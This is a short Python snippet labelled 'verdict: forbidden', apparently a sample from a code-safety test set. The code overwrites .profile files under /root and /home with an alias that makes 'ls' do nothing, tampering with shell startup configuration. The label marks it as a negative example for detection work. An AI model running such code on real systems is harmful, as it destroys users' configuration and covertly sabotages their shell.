# verdict: forbidden
import pathlib

for home in ("/root", "/home"):
    (pathlib.Path(home) / ".profile").write_text("alias ls=true")
